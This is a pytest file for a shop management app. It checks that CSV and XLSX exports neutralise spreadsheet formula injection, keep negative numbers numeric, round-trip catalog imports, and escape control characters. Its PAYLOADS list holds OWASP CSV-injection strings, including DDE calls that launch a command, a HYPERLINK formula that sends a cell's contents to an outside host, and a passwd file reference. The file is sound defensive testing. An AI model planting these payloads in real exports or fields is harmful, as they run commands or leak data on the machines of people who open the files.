"""No export hands a spreadsheet a live formula (issue 15, item 3), and catalogs still import back.

Every export kind (customers, orders, parts, labor, the report, an order's history) in CSV
and XLSX, with the OWASP CSV-injection payloads planted in the text fields each one shows
(names typed at the desk, part names from a maker's price list, an advisor's name). CSV:
the payload's cell starts with an apostrophe, and no text cell starts a formula. XLSX: no
cell is a formula (checked in the saved XML, not only through openpyxl). Numbers, a
negative stock included, stay numbers.
"""

from __future__ import annotations

import csv
import datetime as dt
import zipfile
from dataclasses import dataclass
from decimal import Decimal, InvalidOperation
from pathlib import Path

import pytest
from openpyxl import load_workbook
from sqlalchemy import update

from frontdesk.model import Customer, LaborOperation, Part, StockLevel, User, Vehicle
from frontdesk.model.enums import Role
from frontdesk.services import audit, catalog, data_exports, exports, imports, reports
from frontdesk.services.context import Actor, Services
from frontdesk.services.setup import ensure_store, system_actor
from frontdesk.services.spreadsheet_cells import guard, unguard

from .factories import Shop, customer_and_vehicle, order_through, seed_shop

# OWASP's CSV-injection payloads: formulas, DDE, and a tab or carriage return in front.
PAYLOADS = [
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://x/?d=\"&B2,\"张三\")",
    "+SUM(1,1)",
    "-2+3",
    "@SUM(1,1)",
    "\t=1",
    "\r=1",
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "='file://etc/passwd'!A1",
]
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
KINDS = ["customers", "orders", "parts", "labor", "report", "history"]


@dataclass
class Planted:
    shop: Shop
    customer: int
    vehicle: int
    order: int
    actors: dict[Role, Actor]


@pytest.fixture
def planted(services: Services, actors: dict[Role, Actor]) -> Planted:
    shop = seed_shop(services, system_actor(ensure_store(services)), actors)
    customer, vehicle = customer_and_vehicle(services, actors[Role.ADVISOR])
    order = order_through(services, actors, shop, vehicle, stop="estimate")
    return Planted(shop, customer, vehicle, order.id, actors)


def plant(services: Services, p: Planted, payload: str) -> None:
    """The payload in every text field the exports show, as if typed before any rule existed."""
    with services.db.session() as s, s.begin():
        s.execute(update(Customer).where(Customer.id == p.customer).values(name=payload))
        s.execute(update(Vehicle).where(Vehicle.id == p.vehicle).values(make=payload))
        s.execute(update(User).where(User.id == p.actors[Role.ADVISOR].user_id).values(display_name=payload))
        s.execute(update(Part).where(Part.id == p.shop.oil_filter).values(name=payload, name_en=payload))
        s.execute(update(LaborOperation).where(LaborOperation.id == p.shop.oil_change).values(name=payload))


def export(services: Services, p: Planted, kind: str, path: Path) -> Path:
    manager = p.actors[Role.MANAGER]
    if kind == "customers":
        return data_exports.export_customers(services, manager, path).path
    if kind == "orders":
        return data_exports.export_orders(services, p.actors[Role.CASHIER], dt.date(2026, 11, 1),
                                          dt.date(2026, 11, 30), path).path
    if kind in ("parts", "labor"):
        return data_exports.export_catalog(services, p.actors[Role.ADMIN], kind, path).path
    if kind == "report":
        report = reports.report(services, manager, dt.date(2026, 11, 1), dt.date(2026, 11, 30))
        return exports.export_report(services, manager, report, path)
    return audit.export_order_history(services, manager, p.order, path).path


def csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def is_number(text: str) -> bool:
    try:
        Decimal(text)
    except InvalidOperation:
        return False
    return True


def xlsx_cells(path: Path) -> list[tuple[object, str]]:
    book = load_workbook(path)
    return [(c.value, c.data_type) for sheet in book.worksheets for row in sheet.iter_rows() for c in row]


def xlsx_has_formula_xml(path: Path) -> bool:
    with zipfile.ZipFile(path) as z:
        return any(b"<f>" in z.read(n) or b"<f " in z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))


@pytest.mark.parametrize("kind", KINDS)
def test_csv_exports_escape_every_formula(services, planted, tmp_path, kind):
    for n, payload in enumerate(PAYLOADS):
        plant(services, planted, payload)
        cells = csv_cells(export(services, planted, kind, tmp_path / f"{kind}{n}.csv"))
        assert "'" + payload in cells, (kind, payload)  # the OWASP rule: an apostrophe in front
        assert payload not in cells, (kind, payload)
        live = [c for c in cells if c.startswith(TRIGGERS) and not is_number(c)]
        assert live == [], (kind, payload)


@pytest.mark.parametrize("kind", KINDS)
def test_xlsx_exports_write_text_never_a_formula(services, planted, tmp_path, kind):
    for n, payload in enumerate(PAYLOADS):
        plant(services, planted, payload)
        path = export(services, planted, kind, tmp_path / f"{kind}{n}.xlsx")
        cells = xlsx_cells(path)
        shown = payload.replace("\r", "\n")  # XML reads a carriage return back as a line feed
        assert (shown, "s") in cells, (kind, payload)  # the text as typed, stored as text: no apostrophe
        assert [v for v, t in cells if t == "f"] == [] and not xlsx_has_formula_xml(path), (kind, payload)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_numbers_stay_numbers(services, planted, tmp_path, fmt):
    """A negative stock or amount is a number, not a formula: never escaped, never text."""
    with services.db.session() as s, s.begin():
        s.execute(update(StockLevel).where(StockLevel.part_id == planted.shop.oil_filter).values(on_hand=Decimal("-2")))
    path = export(services, planted, "parts", tmp_path / f"parts.{fmt}")
    if fmt == "csv":
        rows = list(csv.reader(open(path, encoding="utf-8-sig", newline="")))
        stock = {row[0]: row[6] for row in rows[1:]}
        assert Decimal(stock["06L115562B"]) == Decimal("-2") and not stock["06L115562B"].startswith("'")
        assert Decimal(rows[1][5]) > 0
    else:
        sheet = load_workbook(path).active
        row = next(r for r in sheet.iter_rows(min_row=2) if r[0].value == "06L115562B")
        assert row[6].data_type == "n" and Decimal(str(row[6].value)) == Decimal("-2")
        assert row[5].data_type == "n"


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_catalog_with_formula_like_text_imports_back_unchanged(services, actors, tmp_path, fmt):
    """A part name that really starts with "-" or "=" survives export → Excel → import."""
    admin = actors[Role.ADMIN]
    names = ["-10℃ 防冻液", "=1+1", "+86 专用", "@home", "'-already quoted", "''=two quotes", "'plain quote"]
    for n, name in enumerate(names):
        catalog.save_part(services, admin, catalog.PartInput(f"P{n:03}", name, "10.00", name_en=name, category=name))
    catalog.save_part(services, admin, catalog.PartInput("-0001", "负号编号", "1.00"))
    done = data_exports.export_catalog(services, admin, "parts", tmp_path / f"parts.{fmt}")
    if fmt == "csv":
        cells = csv_cells(done.path)
        assert "'-10℃ 防冻液" in cells and "''-already quoted" in cells and "'''=two quotes" in cells
        assert "'plain quote" in cells and "'-0001" in cells
    report = imports.dry_run(services, admin, "parts", done.path)
    assert report.ok and (report.added, report.changed) == ((), ()) and report.unchanged == report.rows == 8
    sheet = imports.read_sheet(done.path)
    assert sorted(cells[1] for _n, cells in sheet.rows) == sorted([*names, "负号编号"])


@pytest.mark.parametrize("text", [*PAYLOADS, "", "plain", "'", "''", "'x", "'=", "''-", "-", "1-2", " =1", "张三"])
def test_guard_and_unguard_are_inverse(text):
    guarded = guard(text)
    assert unguard(guarded) == text
    assert not guarded.startswith(TRIGGERS)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("kind", KINDS)
def test_control_characters_stored_before_the_text_rule_do_not_break_an_export(services, planted, tmp_path, kind,
                                                                              fmt):
    """An ESC or a bidi override saved before the text rule (issue 15, item 4) made every XLSX
    export fail; now every text cell shows it as a visible escape, in XLSX and CSV alike."""
    plant(services, planted, "张\x1b]0;pwned\x07三\u202e")
    path = export(services, planted, kind, tmp_path / f"{kind}.{fmt}")
    if fmt == "csv":
        text = path.read_text("utf-8-sig")
    else:
        book = load_workbook(path)
        text = "\n".join(str(c.value) for sheet in book for row in sheet.iter_rows() for c in row if c.value is not None)
    assert "\x1b" not in text and "\x07" not in text and "\u202e" not in text
    assert "张\\x1b]0;pwned\\x07三\\u202e" in text
